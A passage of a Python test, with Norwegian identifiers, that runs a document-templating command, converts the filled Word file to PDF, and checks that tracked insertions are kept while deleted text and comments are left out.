    ut = tmp_path / "ut"
    assert _kjor("lag", fyll(navn="amin.xlsx"), "--mal", f"plan={mal}", "--ut", ut).exit_code == 0
    (pdf,) = til_pdf([ut / "Amin Testesen - plan.docx"], tmp_path / "pdf")
    tekst = " ".join(pdf_tekst(pdf).split())
    assert "Endret: innsatt tekst" in tekst
    assert "Første del og andre del." in tekst
    assert "slettet tekst" not in tekst and "Husk å spørre" not in tekst
